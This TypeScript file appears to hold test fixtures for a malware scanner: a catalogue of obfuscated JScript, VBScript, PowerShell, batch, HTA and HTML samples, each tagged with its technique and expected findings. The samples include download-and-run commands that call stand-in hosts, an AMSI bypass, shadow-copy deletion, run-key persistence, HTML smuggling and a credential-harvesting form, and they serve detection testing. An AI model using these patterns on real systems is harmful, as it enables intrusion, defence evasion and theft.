/** Scripts, shortcuts and pages as attacks send them. All inert. */
import { gzipSync } from 'node:zlib';
import { zipOf } from '../../engines/zip-fixture.ts';
import { HOSTILE_OBFUSCATION } from './obfuscation.ts';
import { base64, base64Wide, codes, HOST, type HostileFile, PROGRAM } from './sample.ts';

const RUN = "new ActiveXObject('WScript.Shell').Run('cmd.exe /c echo inert', 0);";
const FETCH = `IEX (New-Object Net.WebClient).DownloadString('${HOST}/a.ps1')`;
const packed = base64(gzipSync(FETCH));
const chr = (text: string) =>
  codes(text)
    .map((code) => `Chr(${code})`)
    .join(' & ');

export const HOSTILE_SCRIPTS: readonly HostileFile[] = [
  ...HOSTILE_OBFUSCATION,
  {
    technique: 'JScript: downloads with XMLHTTP, writes with ADODB.Stream, runs',
    name: 'invoice.js',
    content: `var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","${HOST}/a.exe",0);x.send();var s=new ActiveXObject("ADODB.Stream");s.Write(x.responseBody);s.SaveToFile("a.exe");new ActiveXObject("WScript.Shell").Run("a.exe");`,
    level: 'malicious',
    finds: ['code-downloads-and-runs'],
  },
  {
    technique: 'JScript: words put together from pieces',
    name: 'order.js',
    content: 'var s = new ActiveXObject("WSc"+"ript.S"+"hell"); s["Ru"+"n"]("cm"+"d /c echo inert");',
    level: 'malicious',
    finds: ['code-obfuscated', 'code-hides-what-it-does'],
  },
  {
    technique: 'JScript: character codes behind eval',
    name: 'codes.js',
    content: `eval(String.fromCharCode(${codes(RUN).join(',')}))`,
    level: 'malicious',
    finds: ['code-executes', 'code-hides-what-it-does'],
  },
  {
    technique: 'JScript: base64 layer',
    name: 'layer.js',
    content: `var code = decode("${base64(RUN)}"); eval(code); WScript.Sleep(1);`,
    level: 'malicious',
    finds: ['code-hidden-layer', 'code-executes'],
  },
  {
    technique: 'JScript: program in base64',
    name: 'dropper.js',
    content: `var data = "${base64(PROGRAM)}"; WScript.Echo(data.length);`,
    level: 'malicious',
    finds: ['code-hidden-program'],
  },
  {
    technique: 'JScript: reversed words',
    name: 'reversed.js',
    content: `var n = "llehS.tpircSW".split("").reverse().join(""); var o = new ActiveXObject(n); o.Run("cmd /c echo inert");`,
    level: 'suspicious',
    finds: ['code-executes'],
  },
  {
    technique: 'VBScript: character chain',
    name: 'note.vbs',
    content: `Set s = CreateObject(${chr('WScript.Shell')})\r\ns.Run ${chr('cmd.exe /c echo inert')}, 0\r\n`,
    level: 'malicious',
    finds: ['code-obfuscated', 'code-hides-what-it-does'],
  },
  {
    technique: 'VBScript: StrReverse and Replace',
    name: 'bill.vbs',
    content: `x = StrReverse("llehS.tpircSW")\r\nSet s = CreateObject(x)\r\ns.Run Replace("c~m~d /c echo inert", "~", "")\r\n`,
    level: 'suspicious',
    finds: ['code-executes'],
  },
  {
    technique: 'VBScript: adds itself to the run key',
    name: 'update.vbs',
    content: `Set s = CreateObject("WScript.Shell")\r\ns.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "a.vbs"\r\ns.Run "notepad"\r\n`,
    level: 'malicious',
    finds: ['code-persists', 'code-installs-itself'],
  },
  {
    technique: 'PowerShell: downloads and runs',
    name: 'setup.ps1',
    content: FETCH,
    level: 'malicious',
    finds: ['code-downloads-and-runs'],
  },
  {
    technique: 'PowerShell: encoded command in a batch file',
    name: 'run.bat',
    content: `@echo off\r\npowershell.exe -nop -w hidden -enc ${base64Wide(FETCH)}\r\n`,
    level: 'malicious',
    finds: ['code-hidden-layer', 'code-downloads-and-runs'],
  },
  {
    technique: 'PowerShell: gzip in base64',
    name: 'gz.ps1',
    content: `$d=[Convert]::FromBase64String('${packed}');$g=New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,$d)),'Decompress');iex (New-Object IO.StreamReader($g)).ReadToEnd()`,
    level: 'malicious',
    finds: ['code-hidden-layer', 'code-downloads-and-runs'],
  },
  {
    technique: 'PowerShell: backticks and format operator',
    name: 'ticks.ps1',
    content:
      "$w = n`e`w-o`b`ject n`et.w`eb`cli`ent\r\n& ('{1}{0}' -f 'ex','i') $w.down`loads`tring('http://files.example.invalid/x')\r\n",
    level: 'malicious',
    finds: ['code-downloads'],
  },
  {
    technique: 'PowerShell: characters by number',
    name: 'chars.ps1',
    content: `iex (([char[]](${codes(FETCH).join(',')}) -join ''))`,
    level: 'malicious',
    finds: ['code-downloads'],
  },
  {
    technique: 'PowerShell: loads a program into memory',
    name: 'load.ps1',
    content: `$b = (New-Object Net.WebClient).DownloadData('${HOST}/a.bin'); [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)`,
    level: 'malicious',
    finds: ['code-loads-memory', 'code-runs-in-memory'],
  },
  {
    technique: 'PowerShell: switches off the malware scan',
    name: 'amsi.ps1',
    content:
      "[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils').GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)",
    level: 'malicious',
    finds: ['code-disables-defence'],
  },
  {
    technique: 'batch: carets in every word',
    name: 'caret.cmd',
    content: `@e^c^h^o o^f^f\r\np^o^w^e^r^s^h^e^l^l -c "i^w^r http://files.example.invalid/a -o a.exe; s^a^p^s a.exe"\r\n`,
    level: 'malicious',
    finds: ['code-executes', 'code-downloads'],
  },
  {
    technique: 'batch: words out of variables',
    name: 'vars.bat',
    content: `@echo off\r\nset a=power\r\nset b=shell\r\n%a%%b% -w hidden -c "iwr http://files.example.invalid/a"\r\n`,
    level: 'malicious',
    finds: ['code-executes'],
  },
  {
    technique: 'batch: certutil fetches a program',
    name: 'cert.bat',
    content: `certutil -urlcache -split -f ${HOST}/a.exe %temp%\\a.exe\r\nstart /b %temp%\\a.exe\r\n`,
    level: 'malicious',
    finds: ['code-downloads-and-runs'],
  },
  {
    technique: 'batch: deletes the backups',
    name: 'clean.bat',
    content: 'vssadmin delete shadows /all /quiet\r\nwbadmin delete catalog -quiet\r\n',
    level: 'malicious',
    finds: ['code-disables-defence'],
  },
  {
    technique: 'HTA: runs a command',
    name: 'form.hta',
    content: `<html><hta:application id="a"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -c iwr ${HOST}/a"</script></html>`,
    level: 'malicious',
    finds: ['code-downloads-and-runs'],
  },
  {
    technique: 'scriptlet: runs a command',
    name: 'form.sct',
    content: `<?xml version="1.0"?><scriptlet><registration progid="x"><script language="JScript">var r = new ActiveXObject("WScript.Shell").Run("cmd /c echo inert");</script></registration></scriptlet>`,
    level: 'suspicious',
    finds: ['code-executes'],
  },
  {
    technique: 'page: smuggles an archive and saves it',
    name: 'document.html',
    content: `<html><body><script>var d=atob("${base64(zipOf({ 'invoice.exe': { content: PROGRAM } }))}");var b=new Blob([d]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.zip";a.click();</script></body></html>`,
    level: 'malicious',
    finds: ['html-carries-payload', 'html-delivers-program'],
  },
  {
    technique: 'page: smuggles a program out of a hidden element',
    name: 'view.html',
    content: `<html><body><div id="d" style="display:none">${base64(PROGRAM)}</div><script>var s=atob(document.getElementById("d").innerText);navigator.msSaveOrOpenBlob(new Blob([s]),"a.exe")</script></body></html>`,
    level: 'malicious',
    finds: ['html-delivers-program'],
  },
  {
    technique: 'page: list of numbers becomes a program',
    name: 'bytes.html',
    content: `<html><script>var b=new Uint8Array([${[...PROGRAM].join(',')}]);var u=URL.createObjectURL(new Blob([b]));a.download="x.exe";var t=String.fromCharCode(b[0]);</script></html>`,
    level: 'malicious',
    finds: ['html-delivers-program'],
  },
  {
    technique: 'page: password form that posts elsewhere',
    name: 'login.html',
    content: `<html><body><form action="https://collect.example.invalid/p" method="post"><input name="e"><input type="password" name="p"></form></body></html>`,
    level: 'suspicious',
    finds: ['html-credential-form'],
  },
  {
    technique: 'page: the real page is decoded and written',
    name: 'secure.html',
    content: `<html><script>document.write(atob("${base64('<html><body><form action="https://collect.example.invalid/p"><input type="password"></form></body></html>')}"))</script></html>`,
    level: 'suspicious',
    finds: ['html-writes-page'],
  },
  {
    technique: 'drawing with a script',
    name: 'logo.svg',
    content: '<svg xmlns="http://www.w3.org/2000/svg"><script>location="http://files.example.invalid"</script></svg>',
    level: 'suspicious',
    finds: ['svg-carries-page'],
  },
  {
    technique: 'Internet shortcut to a file share',
    name: 'open.url',
    content: '[InternetShortcut]\r\nURL=file://files.example.invalid/share/a.vbs\r\n',
    level: 'suspicious',
    finds: ['shortcut'],
  },
];
